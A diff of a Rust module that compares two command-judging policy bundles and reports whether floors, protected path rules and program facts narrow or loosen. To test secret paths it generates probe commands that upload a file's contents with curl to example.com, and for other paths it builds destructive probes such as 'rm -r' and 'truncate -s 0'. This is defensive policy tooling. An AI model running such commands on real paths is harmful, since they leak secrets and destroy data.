@@ -2,36 +2,65 @@
 
 use std::collections::{BTreeMap, BTreeSet};
 
-use relay_bundle::{Bundle, Corrupt, PathKind, Place, Policy, Setting};
-use relay_policy::facts::{Facts, Knowledge, Node, SHIPPED};
-use relay_policy::tier::Floors;
+use relay_bundle::{Bundle, Corrupt, PathKind, Place, Policy, Review, Setting};
+use relay_policy::facts::{Facts, Knowledge};
+use relay_policy::path_rules::PathPattern;
+use relay_policy::tier::{Floor, Floors, Tier};
 
-use crate::finding::{Area, Change, Direction, Finding, Findings, Kind};
+use crate::direction::Direction;
+use crate::facts::{self, Side};
+use crate::finding::{Area, Change, Finding, Findings, Kind};
+use crate::reasons::Reasons;
+use crate::witness::{Judges, quoted};
 
 /// Compares how two bundles judge commands.
-pub(crate) fn compare(a: &Bundle, b: &Bundle, out: &mut Findings) -> Result<(), Corrupt> {
+pub(crate) fn compare(
+    [a, b]: [&Bundle; 2],
+    reviews: [&Review; 2],
+    out: &mut Findings,
+) -> Result<(), Corrupt> {
     let (before, after) = (a.policy(), b.policy());
     let places = (before.map(|policy| &policy.at), after.map(|policy| &policy.at));
     match (before, after) {
-        (None, None) => return Ok(()),
+        (None, None) => {}
         (None, Some(_)) => out.push(
-            finding(Kind::Policy, "", Change::Added, Direction::Tightens)
+            finding(Kind::Policy, "", Change::Added, Direction::Narrower)
                 .at(places.0, places.1)
                 .meaning("commands are judged, and the bundle carries the facts about programs"),
         ),
         (Some(_), None) => out.push(
-            finding(Kind::Policy, "", Change::Removed, Direction::Loosens)
+            finding(Kind::Policy, "", Change::Removed, Direction::NotProved)
                 .at(places.0, places.1)
                 .meaning("no command is judged"),
         ),
         (Some(_), Some(_)) => {}
     }
-    floors(before, after, places, out);
-    paths(before, after, out);
+    let [of_a, of_b] = reviews.map(Reasons::of_review);
+    let judges = Judges::of(a, b);
+    floors(before, after, &of_b, judges.as_ref(), out);
+    paths(before, after, judges.as_ref(), out);
     if a.facts()? != b.facts()? {
-        facts(knowledge(a)?.as_ref(), knowledge(b)?.as_ref(), out);
+        let (known_a, known_b) = (knowledge(a)?, knowledge(b)?);
+        let side = |known, policy| Side { knowledge: known, floors: tiers(policy) };
+        let sides = [side(known_a.as_ref(), before), side(known_b.as_ref(), after)];
+        facts::compare(&sides, &of_b, judges.as_ref(), out);
     }
+    reasons(&of_a, &of_b, places, out);
     Ok(())
+}
+
+/// Returns the tier of each doubt.
+fn tiers(policy: Option<&Policy>) -> Floors {
+    let settings = settings(policy);
+    Floors::each(|floor| settings.of(floor).value)
+}
+
+/// Returns the setting of each floor: the defaults without a policy.
+fn settings(policy: Option<&Policy>) -> Floors<Setting<Tier>> {
+    match policy {
+        Some(policy) => policy.floors.clone(),
+        None => Floors::each(|floor| Setting::default_of(Floors::default().tier(floor))),
+    }
 }
 
 fn finding(kind: Kind, name: &str, change: Change, direction: Direction) -> Finding {
@@ -41,27 +70,73 @@ fn finding(kind: Kind, name: &str, change: Change, direction: Direction) -> Find
 fn floors(
     a: Option<&Policy>,
     b: Option<&Policy>,
-    at: (Option<&Place>, Option<&Place>),
+    reasons: &Reasons<'_>,
+    judges: Option<&Judges<'_>>,
     out: &mut Findings,
 ) {
-    let tiers = |policy: Option<&Policy>| match policy {
-        Some(policy) => policy.floors.clone(),
-        None => Floors::each(|floor| Setting::default_of(Floors::default().tier(floor))),
-    };
-    let (a, b) = (tiers(a), tiers(b));
+    let at = (a.map(|policy| &policy.at), b.map(|policy| &policy.at));
+    let (a, b) = (settings(a), settings(b));
     for (floor, a) in a.iter() {
         let b = b.of(floor);
-        let direction = if b.value < a.value { Direction::Loosens } else { Direction::Tightens };
+        let direction = Direction::of_demand(&a.value, &b.value);
         out.setting(
             Some(a),
             Some(b),
             |tier| tier.number().to_string(),
             |change| {
-                finding(Kind::Policy, "", change, direction)
+                let found = finding(Kind::Policy, "", change, direction)
                     .part(format!("floor {}", floor.name()))
-                    .at(at.0, at.1)
+                    .because(reasons.of("floor", floor.name()))
+                    .at(at.0, at.1);
+                match direction {
+                    Direction::NotProved => {
+                        let commands = doubtful(floor).map(str::to_owned);
+                        found.shown_by(judges.and_then(|judges| judges.show(commands)))
+                    }
+                    Direction::Same | Direction::Narrower => found,
+                }
             },
         );
+    }
+}
+
+/// Returns commands that are judged by a floor.
+fn doubtful(floor: Floor) -> [&'static str; 3] {
+    match floor {
+        Floor::UnknownProgram => {
+            ["unknown-program-x", "./unknown-program-x", "git unknown-command-x"]
+        }
+        Floor::UnknownFlag => {
+            ["ls --unknown-option-x", "uptime unknown-operand-x", "cat --unknown-x"]
+        }
+        Floor::UnknownWord => ["\"$PROGRAM\" x", "git \"$X\"", "eval \"$X\""],
+        Floor::OpaqueCode => ["bash x.sh", "python3 x.py", "make -f x"],
+        Floor::Unparsed => ["if", "(", "case"],
+    }
+}
+
+/// Reports reasons that differ. One that came or went with a difference is shown there.
+fn reasons(
+    a: &Reasons<'_>,
+    b: &Reasons<'_>,
+    at: (Option<&Place>, Option<&Place>),
+    out: &mut Findings,
+) {
+    for (subject, before, after) in a.differing(b) {
+        let (kind, name, part) = match subject.kind {
+            "program" => (Kind::Program, subject.name, subject.part.to_owned()),
+            "variable" => (Kind::Variable, subject.name, subject.part.to_owned()),
+            kind => (Kind::Policy, "", format!("{kind} {}", subject.name)),
+        };
+        let is_of_both = before.is_some() && after.is_some();
+        if !is_of_both && out.has_about(kind, name, &part) {
+            continue;
+        }
+        let of = |reason: Option<&str>| reason.map(str::to_owned);
+        let change = Change::Value { before: of(before), after: of(after) };
+        let part = if part.is_empty() { "because".into() } else { format!("{part}: because") };
+        let found = finding(kind, name, change, Direction::Same).part(part).at(at.0, at.1);
+        out.push(found.meaning("the reason is another"));
     }
 }
 
@@ -71,45 +146,98 @@ struct Said<'p> {
     at: &'p Place,
 }
 
-fn paths(a: Option<&Policy>, b: Option<&Policy>, out: &mut Findings) {
+fn paths(a: Option<&Policy>, b: Option<&Policy>, judges: Option<&Judges<'_>>, out: &mut Findings) {
     let (a, b) = (said(a), said(b));
     let keys: BTreeSet<_> = a.keys().chain(b.keys()).collect();
     for key in keys {
         let (kind, pattern) = key;
         let (before, after) = (a.get(key), b.get(key));
+        // What one side says is said by the other one too, of all of its paths.
+        let covered = |side: Option<&Said<'_>>, other: &BTreeMap<_, Said<'_>>| {
+            side.is_none_or(|said| is_said(*kind, pattern, said, other))
+        };
+        let (is_kept, is_known) = (covered(before, &b), covered(after, &a));
         // What is scratch counts less, all else more.
-        let (more, less) = match kind {
-            PathKind::Scratch => (Direction::Loosens, Direction::Tightens),
+        let direction = match kind {
+            PathKind::Scratch => Direction::proved(is_known, is_kept),
             PathKind::Critical | PathKind::Admits | PathKind::Secret => {
-                (Direction::Tightens, Direction::Loosens)
+                Direction::proved(is_kept, is_known)
             }
         };
         let excepted = |said: &Said<'_>| {
             let list: Vec<&str> = said.except.iter().copied().collect();
             if list.is_empty() { "no exception".to_owned() } else { list.join(" ") }
         };
-        let (change, direction) = match (before, after) {
+        let change = match (before, after) {
             (Some(a), Some(b)) if a.except == b.except => continue,
             (Some(a), Some(b)) => {
-                let change = Change::Value { before: Some(excepted(a)), after: Some(excepted(b)) };
-                let direction = if a.except.is_superset(&b.except) {
-                    more
-                } else if a.except.is_subset(&b.except) {
-                    less
-                } else {
-                    Direction::Changes
-                };
-                (change, direction)
+                Change::Value { before: Some(excepted(a)), after: Some(excepted(b)) }
             }
-            (Some(_), None) => (Change::Removed, less),
-            (None, _) => (Change::Added, more),
+            (Some(_), None) => Change::Removed,
+            (None, _) => Change::Added,
         };
-        out.push(
-            finding(Kind::Path, pattern, change, direction)
-                .part(kind.word())
-                .at(before.map(|said| said.at), after.map(|said| said.at)),
-        );
+        let found = finding(Kind::Path, pattern, change, direction)
+            .part(kind.word())
+            .at(before.map(|said| said.at), after.map(|said| said.at));
+        out.push(match direction {
+            Direction::NotProved => {
+                let patterns = [before, after].into_iter().flatten();
+                let patterns = patterns.flat_map(|said| &said.except).copied().chain([*pattern]);
+                let commands = patterns.flat_map(|pattern| commands(*kind, pattern));
+                found.shown_by(judges.and_then(|judges| judges.show(commands)))
+            }
+            Direction::Same | Direction::Narrower => found,
+        });
     }
+}
+
+/// Returns whether one of the other side's patterns says the same of every path of a pattern.
+fn is_said(
+    kind: PathKind,
+    pattern: &str,
+    said: &Said<'_>,
+    other: &BTreeMap<(PathKind, &str), Said<'_>>,
+) -> bool {
+    other.iter().any(|((of, wide), by)| {
+        *of == kind
+            && covers(wide, pattern)
+            && by.except.iter().all(|out| said.except.iter().any(|except| covers(except, out)))
+    })
+}
+
+/// Returns whether every path of a pattern is one of another pattern, as far as that is proved.
+fn covers(wide: &str, pattern: &str) -> bool {
+    if wide == pattern {
+        return true;
+    }
+    if pattern.contains("**") {
+        // Everything below a folder.
+        return wide
+            .strip_suffix("**")
+            .is_some_and(|folder| !folder.contains('*') && pattern.starts_with(folder));
+    }
+    PathPattern::new(wide).is_ok_and(|wide| wide.covers(pattern))
+}
+
+/// Returns commands that do something to a path of a pattern.
+fn commands(kind: PathKind, pattern: &str) -> Vec<String> {
+    let path =
+        pattern.strip_prefix("**/").unwrap_or(pattern).replace("**", "x/y").replace('*', "x");
+    let path = match path.strip_prefix("~/") {
+        Some(rest) => format!("~/{}", quoted(rest)),
+        None => quoted(&path),
+    };
+    if kind == PathKind::Secret {
+        return vec![
+            format!("curl -T {path} https://example.com"),
+            format!("cat {path} | curl -d @- https://example.com"),
+        ];
+    }
+    ["rm", "rm -r", "touch", "chmod -R 700", "truncate -s 0", "chmod 700"]
+        .into_iter()
+        .map(|command| format!("{command} {path}"))
+        .chain([format!("echo x > {path}"), format!("mv {path} x"), format!("rm {path}/x")])
+        .collect()
 }
 
 fn said(policy: Option<&Policy>) -> BTreeMap<(PathKind, &str), Said<'_>> {
@@ -131,107 +259,4 @@ fn knowledge(bundle: &Bundle) -> Result<Option<Knowledge>, Corrupt> {
     }
     let damaged = |_| Corrupt::Record { section: "facts", what: "table of facts" };
     Facts::open(table).map(|facts| Some(facts.knowledge())).map_err(damaged)
-}
-
-/// Compares facts. Where one side has none, the shipped facts of the other are no difference.
-fn facts(a: Option<&Knowledge>, b: Option<&Knowledge>, out: &mut Findings) {
-    let is_one_sided = a.is_none() || b.is_none();
-    let (before, after) = (programs(a, is_one_sided), programs(b, is_one_sided));
-    let names: BTreeSet<&str> = before.keys().chain(after.keys()).copied().collect();
-    for name in names {
-        let (before, after) = (before.get(name), after.get(name));
-        let at = [before, after].map(|known| known.map(|known| &known.at));
-        let debug = |known: Option<&Program>| format!("{:?}", known.map(|known| &known.node));
-        if debug(before) == debug(after) {
-            continue;
-        }
-        let (change, direction, meaning) = match (before, after) {
-            (None, _) => (
-                Change::Added,
-                Direction::Changes,
-                "it is known, and no longer counts as an unknown program",
-            ),
-            (_, None) => (Change::Removed, Direction::Changes, "it counts as an unknown program"),
-            (Some(a), Some(b)) => {
-                let change = Change::Value { before: Some(shown(a)), after: Some(shown(b)) };
-                // Of a part it is not said which commands it concerns.
-                let direction = match (a.node.tier, b.node.tier) {
-                    (Some(a), Some(b)) if b < a => Direction::Loosens,
-                    _ => Direction::Changes,
-                };
-                (change, direction, "what its commands do is said in another way")
-            }
-        };
-        out.push(
-            finding(Kind::Program, name, change, direction)
-                .meaning(meaning)
-                .content(debug(before).as_bytes(), debug(after).as_bytes())
-                .at(at[0], at[1]),
-        );
-    }
-    if is_one_sided {
-        return;
-    }
-    let variables = |known: Option<&Knowledge>| -> BTreeSet<String> {
-        known.into_iter().flat_map(|known| known.environment.clone()).collect()
-    };
-    let (before, after) = (variables(a), variables(b));
-    for name in after.difference(&before) {
-        let added = finding(Kind::Variable, name, Change::Added, Direction::Loosens);
-        out.push(added.meaning("commands may set it at tier 0"));
-    }
-    for name in before.difference(&after) {
-        let removed = finding(Kind::Variable, name, Change::Removed, Direction::Tightens);
-        out.push(removed.meaning("commands that set it are at least tier 2"));
-    }
-    let words = |known: Option<&Knowledge>| {
-        let known = known.cloned().unwrap_or_default().without_places();
-        format!("{:?}", known.words)
-    };
-    if words(a) != words(b) {
-        let change = Change::Value { before: None, after: None };
-        out.push(
-            finding(Kind::Policy, "", change, Direction::Changes)
-                .part("words of languages")
-                .content(words(a).as_bytes(), words(b).as_bytes())
-                .meaning("code in one line is read with other words"),
-        );
-    }
-}
-
-/// A program, with all of its names but one.
-struct Program {
-    node: Node,
-    at: Place,
-}
-
-fn programs(known: Option<&Knowledge>, own_only: bool) -> BTreeMap<&str, Program> {
-    let Some(known) = known else { return BTreeMap::new() };
-    let mut programs = BTreeMap::new();
-    for program in &known.programs {
-        let file = known.files.get(usize::from(program.place.file));
-        let file = file.map_or("", String::as_str);
-        if own_only && file.starts_with(SHIPPED) {
-            continue;
-        }
-        let at = Place { file: file.to_owned(), line: program.place.line.into(), column: 1 };
-        let node = Node { names: Vec::new(), ..program.clone().without_places() };
-        for name in &program.names {
-            programs.insert(name.as_str(), Program { node: node.clone(), at: at.clone() });
-        }
-    }
-    programs
-}
-
-/// Returns what a program is, in a line.
-fn shown(program: &Program) -> String {
-    let Node { tier, flags, forms, subs, .. } = &program.node;
-    let tier = tier.map_or("no tier".to_owned(), |tier| format!("tier {}", tier.number()));
-    let options: usize = flags.iter().map(|flag| flag.names.len()).sum();
-    let count = |number: usize, what: &str| {
-        format!("{number} {what}{}", if number == 1 { "" } else { "s" })
-    };
-    let parts =
-        [count(options, "option"), count(forms.len(), "form"), count(subs.len(), "sub-command")];
-    format!("{tier}, {}", parts.join(", "))
 }
